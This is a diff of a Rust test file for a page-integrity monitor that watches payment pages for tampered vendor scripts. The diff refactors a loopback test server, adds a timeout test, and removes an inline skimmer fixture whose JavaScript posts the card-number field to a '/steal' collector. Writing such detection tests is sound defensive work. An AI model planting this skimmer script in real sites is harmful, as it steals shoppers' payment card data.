@@ -9,145 +9,13 @@
 mod support;
 
 use serde_json::Value;
-use std::collections::HashMap;
-use std::io::{BufRead, BufReader, Read, Write};
-use std::net::{TcpListener, TcpStream};
 use std::path::Path;
 use std::process::Output;
-use std::sync::atomic::{AtomicBool, Ordering};
-use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
 use support::{vakt, WAIT};
+use vakt_pages::site::{bundle, payment_page, skimmer, Answer, Site, CHAT, PAY};
 
 const CHROMIUM: &str = "/usr/bin/chromium";
-
-/// What the site serves now, by port and path: status, content type, body,
-/// extra headers.
-type Routes = HashMap<(u16, String), (u16, &'static str, String, Vec<(String, String)>)>;
-
-/// Loopback origins serving `routes`, each listener polled until dropped.
-struct Site {
-    ports: Vec<u16>,
-    routes: Arc<Mutex<Routes>>,
-    stop: Arc<AtomicBool>,
-    threads: Vec<std::thread::JoinHandle<()>>,
-}
-
-impl Site {
-    fn start(origins: usize) -> Site {
-        let routes: Arc<Mutex<Routes>> = Arc::default();
-        let stop = Arc::new(AtomicBool::new(false));
-        let mut ports = Vec::new();
-        let mut threads = Vec::new();
-        for _ in 0..origins {
-            let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-            listener.set_nonblocking(true).unwrap();
-            let port = listener.local_addr().unwrap().port();
-            ports.push(port);
-            let (routes, stop) = (routes.clone(), stop.clone());
-            threads.push(std::thread::spawn(move || {
-                while !stop.load(Ordering::Relaxed) {
-                    match listener.accept() {
-                        Ok((conn, _)) => {
-                            let routes = routes.clone();
-                            std::thread::spawn(move || answer(conn, port, &routes));
-                        }
-                        Err(_) => std::thread::sleep(Duration::from_millis(5)),
-                    }
-                }
-            }));
-        }
-        Site {
-            ports,
-            routes,
-            stop,
-            threads,
-        }
-    }
-
-    fn origin(&self, i: usize) -> String {
-        format!("http://127.0.0.1:{}", self.ports[i])
-    }
-
-    fn set(&self, i: usize, path: &str, kind: &'static str, body: &str, headers: &[(&str, &str)]) {
-        let headers = headers
-            .iter()
-            .map(|(k, v)| (k.to_string(), v.to_string()))
-            .collect();
-        self.routes.lock().unwrap().insert(
-            (self.ports[i], path.to_string()),
-            (200, kind, body.to_string(), headers),
-        );
-    }
-}
-
-impl Drop for Site {
-    fn drop(&mut self) {
-        self.stop.store(true, Ordering::Relaxed);
-        for t in self.threads.drain(..) {
-            let _ = t.join();
-        }
-    }
-}
-
-/// One request, HTTP/1.1 with `Connection: close`; the body is read and
-/// dropped (the collector only has to answer).
-fn answer(mut conn: TcpStream, port: u16, routes: &Mutex<Routes>) {
-    let _ = conn.set_nonblocking(false);
-    let _ = conn.set_read_timeout(Some(Duration::from_secs(5)));
-    let mut reader = BufReader::new(conn.try_clone().unwrap());
-    let mut line = String::new();
-    if reader.read_line(&mut line).is_err() {
-        return;
-    }
-    let path = line.split_whitespace().nth(1).unwrap_or("/").to_string();
-    let path = path.split('?').next().unwrap_or("/").to_string();
-    let mut length = 0usize;
-    loop {
-        let mut h = String::new();
-        if reader.read_line(&mut h).is_err() || h.trim().is_empty() {
-            break;
-        }
-        if let Some(v) = h.to_ascii_lowercase().strip_prefix("content-length:") {
-            length = v.trim().parse().unwrap_or(0);
-        }
-    }
-    let mut body = vec![0; length.min(1 << 20)];
-    let _ = reader.read_exact(&mut body);
-    let found = routes.lock().unwrap().get(&(port, path)).cloned();
-    let (status, kind, text, headers) =
-        found.unwrap_or((204, "text/plain", String::new(), Vec::new()));
-    let mut head = format!(
-        "HTTP/1.1 {status} X\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nAccess-Control-Allow-Origin: *\r\nCache-Control: no-store\r\nConnection: close\r\n",
-        text.len()
-    );
-    for (k, v) in headers {
-        head.push_str(&format!("{k}: {v}\r\n"));
-    }
-    head.push_str("\r\n");
-    let _ = conn.write_all(head.as_bytes());
-    let _ = conn.write_all(text.as_bytes());
-}
-
-const PAY: &str = r#"<!doctype html><html><head><title>Pay</title>
-<script src="/static/app.js"></script>
-<script src="CHAT/chat.js"></script>
-<script>window.shopReady = true;</script>
-</head><body><form id="pay" action="/pay" method="post">
-<input name="cardholder" autocomplete="cc-name">
-<input name="cardnumber" autocomplete="cc-number">
-<input name="email" type="email">
-<button>Pay</button></form></body></html>"#;
-
-const CHAT: &str = "document.addEventListener('DOMContentLoaded', function () { var c = document.createElement('div'); c.id = 'chat'; c.textContent = 'Chat with us'; document.body.appendChild(c); });";
-
-fn skimmer(collector: &str) -> String {
-    format!("document.addEventListener('DOMContentLoaded', function () {{ var c = document.createElement('div'); c.id = 'chat'; c.textContent = 'Chat with us'; document.body.appendChild(c); var f = document.querySelector('[name=cardnumber]'); f.addEventListener('change', function () {{ fetch('{collector}/steal', {{ method: 'POST', mode: 'no-cors', body: f.value }}); }}); }});")
-}
-
-fn app(version: u32, analytics: &str) -> String {
-    format!("/* shop bundle v{version} */ window.addEventListener('load', function () {{ navigator.sendBeacon('{analytics}/collect', 'page_view'); }});")
-}
 
 /// `vakt ARGS --data DATA`, its browsers' profiles beside DATA (so a test
 /// can look for what its own checks left running).
@@ -207,7 +75,7 @@ fn a_vendor_script_turned_skimmer_is_caught_and_benign_changes_are_not() {
     let tmp = tempfile::tempdir().unwrap();
     let data = tmp.path().join("data");
     // 0: the shop, 1: the chat vendor, 2: analytics, 3: the skimmer's collector.
-    let site = Site::start(4);
+    let site = Site::start(4).unwrap();
     let (shop, vendor, analytics, collector) = (
         site.origin(0),
         site.origin(1),
@@ -215,15 +83,7 @@ fn a_vendor_script_turned_skimmer_is_caught_and_benign_changes_are_not() {
         site.origin(3),
     );
     let page = format!("{shop}/pay");
-    site.set(0, "/pay", "text/html", &PAY.replace("CHAT", &vendor), &[]);
-    site.set(
-        0,
-        "/static/app.js",
-        "text/javascript",
-        &app(1, &analytics),
-        &[],
-    );
-    site.set(1, "/chat.js", "text/javascript", CHAT, &[]);
+    payment_page(&site);
     let directory = tmp.path().join("directory.toml");
     std::fs::write(
         &directory,
@@ -257,7 +117,7 @@ fn a_vendor_script_turned_skimmer_is_caught_and_benign_changes_are_not() {
         0,
         "/static/app.js",
         "text/javascript",
-        &app(2, &analytics),
+        &bundle(2, &analytics),
         &[],
     );
     let benign = check(&data);
@@ -490,28 +350,29 @@ fn pages_that_fail_time_out_or_move_raise_alerts_of_their_own() {
     }
     let tmp = tempfile::tempdir().unwrap();
     let data = tmp.path().join("data");
-    let site = Site::start(2);
+    let site = Site::start(2).unwrap();
     let (shop, other) = (site.origin(0), site.origin(1));
-    site.routes.lock().unwrap().insert(
-        (site.ports[0], "/broken".into()),
-        (500, "text/html", "<p>oops</p>".into(), Vec::new()),
+    let answer = |status: u16, headers: Vec<(String, String)>, delay: u64| Answer {
+        status,
+        content_type: "text/html".into(),
+        body: "<p>oops</p>".into(),
+        headers,
+        delay: Duration::from_secs(delay),
+    };
+    site.answer(0, "/broken", answer(500, Vec::new(), 0));
+    site.answer(
+        0,
+        "/moved",
+        answer(302, vec![("Location".into(), format!("{other}/pay"))], 0),
     );
-    site.routes.lock().unwrap().insert(
-        (site.ports[0], "/moved".into()),
-        (
-            302,
-            "text/html",
-            String::new(),
-            vec![("Location".into(), format!("{other}/pay"))],
-        ),
-    );
+    site.answer(0, "/hangs", answer(200, Vec::new(), 30));
     site.set(1, "/pay", "text/html", "<p>elsewhere</p>", &[]);
     let closed = support::free_port();
     let directory = tmp.path().join("directory.toml");
     std::fs::write(
         &directory,
         format!(
-            "[[page]]\nurl = \"{shop}/broken\"\n\n[[page]]\nurl = \"{shop}/moved\"\n\n[[page]]\nurl = \"http://127.0.0.1:{closed}/pay\"\ntimeout = \"5s\"\n"
+            "[[page]]\nurl = \"{shop}/broken\"\n\n[[page]]\nurl = \"{shop}/moved\"\n\n[[page]]\nurl = \"{shop}/hangs\"\ntimeout = \"3s\"\n\n[[page]]\nurl = \"http://127.0.0.1:{closed}/pay\"\ntimeout = \"5s\"\n"
         ),
     )
     .unwrap();
@@ -528,7 +389,19 @@ fn pages_that_fail_time_out_or_move_raise_alerts_of_their_own() {
         })
         .collect();
     failures.sort();
-    assert_eq!(failures, ["moved", "status", "unreachable"], "{raised:#?}");
+    assert_eq!(
+        failures,
+        ["moved", "status", "timeout", "unreachable"],
+        "{raised:#?}"
+    );
+    let timeout = raised
+        .iter()
+        .find(|a| a["evidence"]["failure"] == "timeout")
+        .unwrap();
+    assert!(
+        timeout["message"].as_str().unwrap().contains("within 3 s"),
+        "{timeout}"
+    );
     let moved = raised
         .iter()
         .find(|a| a["evidence"]["failure"] == "moved")
